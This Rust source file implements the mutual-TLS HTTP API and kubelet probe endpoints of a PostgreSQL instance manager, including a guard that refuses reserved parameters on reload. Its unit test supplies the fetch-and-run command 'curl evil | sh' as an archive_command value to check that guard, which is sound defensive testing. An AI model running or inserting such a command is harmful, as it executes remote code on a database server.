//! The instance manager's HTTP API, which the operator drives it with:
//!
//! - `GET /healthz`: the manager is alive.
//! - `GET /readyz`: the server accepts connections in its role (200) or not (503).
//! - `GET /status`: role, timeline, WAL positions, lag, standbys (JSON).
//! - `POST /promote`, `POST /restart`, `POST /reload`
//!   (`{"parameters", "synchronousStandbyNames"}`).
//!
//! It is served over TLS that requires the operator's client certificate ([`serve`],
//! configured by `crate::pki::tls`): the handshake refuses every other caller, so no
//! route can be left open by mistake. The kubelet's probes get a second, plain-HTTP
//! port ([`serve_probes`]) with `/healthz` and `/readyz` only, which change nothing
//! and tell no more than whether the instance is ready in its role.
//!
//! There is no demote call: a former primary rejoins by being started with
//! `--role replica`, which rewinds it (see `bootstrap`), so a demotion can never leave a
//! running server half-reconfigured.
//!
//! Handlers only read state or queue a request for the supervisor: they never start or
//! stop the server themselves.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use axum::extract::State;
use axum::http::StatusCode;
use axum::routing::{get, post};
use axum::{Json, Router};
use serde::Deserialize;
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio::sync::oneshot;
use tokio_rustls::TlsAcceptor;
use tracing::Instrument;

use super::config::Role;
use super::{Request, Shared, database, role_name};

type Response = (StatusCode, Json<Value>);

/// How long a client may take to finish the TLS handshake before it is dropped.
const HANDSHAKE_TIMEOUT: Duration = Duration::from_secs(10);

/// Serves the API to the operator only: every connection must complete a TLS
/// handshake with a client certificate `tls` accepts before any request is read.
pub async fn serve(listener: TcpListener, tls: Arc<rustls::ServerConfig>, shared: Arc<Shared>) {
    let app = Router::new()
        .route("/healthz", get(|| async { "ok" }))
        .route("/readyz", get(readyz))
        .route("/status", get(status))
        .route("/promote", post(promote))
        .route("/restart", post(restart))
        .route("/reload", post(reload))
        .layer(axum::middleware::from_fn(traced))
        .with_state(shared);
    let acceptor = TlsAcceptor::from(tls);
    loop {
        let (stream, peer) = match listener.accept().await {
            Ok(accepted) => accepted,
            Err(error) => {
                // Out of file descriptors, usually: wait rather than spin.
                tracing::warn!(%error, "accepting a connection to the instance API");
                tokio::time::sleep(Duration::from_millis(100)).await;
                continue;
            }
        };
        let (acceptor, app) = (acceptor.clone(), app.clone());
        // Each connection on its own task, so a slow handshake holds up no other.
        tokio::spawn(async move {
            let stream = match tokio::time::timeout(HANDSHAKE_TIMEOUT, acceptor.accept(stream))
                .await
            {
                Ok(Ok(stream)) => stream,
                Ok(Err(error)) => {
                    tracing::warn!(%peer, %error, "refused a connection to the instance API");
                    return;
                }
                Err(_) => {
                    tracing::warn!(%peer, "dropped a connection to the instance API: no TLS handshake within 10s");
                    return;
                }
            };
            let service = hyper_util::service::TowerToHyperService::new(app);
            if let Err(error) = hyper::server::conn::http1::Builder::new()
                .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
                .await
            {
                tracing::debug!(%peer, %error, "an instance API connection ended with an error");
            }
        });
    }
}

/// Serves the kubelet's probes in plain HTTP: `/healthz`, and `/readyz` with only the
/// verdict (the details are in `/status`, for the operator).
pub async fn serve_probes(listener: TcpListener, shared: Arc<Shared>) {
    let app = Router::new()
        .route("/healthz", get(|| async { "ok" }))
        .route("/readyz", get(probe_readyz))
        .with_state(shared);
    if let Err(error) = axum::serve(listener, app).await {
        tracing::error!(%error, "the probe endpoint stopped serving");
    }
}

/// Every request runs in a span that continues the caller's trace (the operator sends
/// `traceparent`), so one operation is one trace across the two processes.
async fn traced(
    request: axum::extract::Request,
    next: axum::middleware::Next,
) -> axum::response::Response {
    let span = tracing::info_span!(
        "instance api request",
        method = %request.method(),
        path = %request.uri().path(),
    );
    crate::telemetry::extract(&span, request.headers());
    next.run(request).instrument(span).await
}

/// The server's status, and whether it is ready in the role it should have.
async fn observe(shared: &Shared) -> (bool, Value) {
    let role = shared.role.borrow().clone();
    let observed =
        tokio::time::timeout(Duration::from_secs(3), database::status(&shared.pool)).await;
    match observed {
        Ok(Ok(status)) => {
            let ready = match role {
                Role::Primary => !status.in_recovery,
                Role::Replica(_) => status.in_recovery,
            };
            let mut body = serde_json::to_value(&status).unwrap_or_default();
            body["parameters"] = json!(*shared.parameters.borrow());
            body["instance"] = json!(shared.instance_name);
            body["role"] = json!(role_name(&role));
            body["ready"] = json!(ready);
            (ready, body)
        }
        Ok(Err(error)) => (
            false,
            json!({"instance": shared.instance_name, "role": role_name(&role), "ready": false, "error": error.to_string()}),
        ),
        Err(_) => (
            false,
            json!({"instance": shared.instance_name, "role": role_name(&role), "ready": false, "error": "the server did not answer within 3s"}),
        ),
    }
}

async fn readyz(State(shared): State<Arc<Shared>>) -> Response {
    let (ready, body) = observe(&shared).await;
    let code = if ready {
        StatusCode::OK
    } else {
        StatusCode::SERVICE_UNAVAILABLE
    };
    (code, Json(body))
}

async fn probe_readyz(State(shared): State<Arc<Shared>>) -> Response {
    let (ready, body) = observe(&shared).await;
    let code = if ready {
        StatusCode::OK
    } else {
        StatusCode::SERVICE_UNAVAILABLE
    };
    let verdict = json!({"instance": body["instance"], "role": body["role"], "ready": ready});
    (code, Json(verdict))
}

async fn status(State(shared): State<Arc<Shared>>) -> Response {
    let (_, body) = observe(&shared).await;
    (StatusCode::OK, Json(body))
}

async fn submit(shared: &Shared, request: Request) -> Response {
    let (reply, outcome) = oneshot::channel();
    if shared.requests.send((request, reply)).await.is_err() {
        return (
            StatusCode::SERVICE_UNAVAILABLE,
            Json(json!({"error": "the instance manager is shutting down"})),
        );
    }
    match outcome.await {
        Ok(Ok(body)) => (StatusCode::OK, Json(body)),
        Ok(Err(error)) => (
            StatusCode::INTERNAL_SERVER_ERROR,
            Json(json!({"error": error})),
        ),
        Err(_) => (
            StatusCode::INTERNAL_SERVER_ERROR,
            Json(json!({"error": "the request was dropped"})),
        ),
    }
}

async fn promote(State(shared): State<Arc<Shared>>) -> Response {
    submit(&shared, Request::Promote).await
}

async fn restart(State(shared): State<Arc<Shared>>) -> Response {
    submit(&shared, Request::Restart).await
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct ReloadBody {
    parameters: Option<BTreeMap<String, String>>,
    synchronous_standby_names: Option<String>,
}

/// The parameters in `parameters` that Castellan owns, as given.
fn reserved(parameters: &BTreeMap<String, String>) -> Vec<String> {
    use castellan_crds::database_cluster::RESERVED_POSTGRESQL_PARAMETERS;
    parameters
        .keys()
        .filter(|name| {
            let name = name.trim().to_ascii_lowercase();
            RESERVED_POSTGRESQL_PARAMETERS.contains(&name.as_str())
        })
        .cloned()
        .collect()
}

async fn reload(State(shared): State<Arc<Shared>>, Json(body): Json<ReloadBody>) -> Response {
    // Admission refuses these already; this is the second line, for a request that did
    // not come through a DatabaseCluster (archive_command runs any shell command).
    let refused = body.parameters.as_ref().map(reserved).unwrap_or_default();
    if !refused.is_empty() {
        return (
            StatusCode::BAD_REQUEST,
            Json(json!({"error": format!(
                "refused to reload: {} managed by Castellan and cannot be set: {}",
                if refused.len() == 1 { "this parameter is" } else { "these parameters are" },
                refused.join(", ")
            )})),
        );
    }
    submit(
        &shared,
        Request::Reload {
            parameters: body.parameters,
            synchronous_standby_names: body.synchronous_standby_names,
        },
    )
    .await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reserved_parameters_are_found_whatever_their_case_and_spaces() {
        let parameters: BTreeMap<String, String> = [
            ("work_mem", "8MB"),
            (" Archive_Command ", "curl evil | sh"),
            ("SSL", "off"),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
        assert_eq!(
            reserved(&parameters),
            vec![" Archive_Command ".to_owned(), "SSL".to_owned()]
        );
        let harmless = BTreeMap::from([("work_mem".to_owned(), "8MB".to_owned())]);
        assert!(reserved(&harmless).is_empty());
    }
}
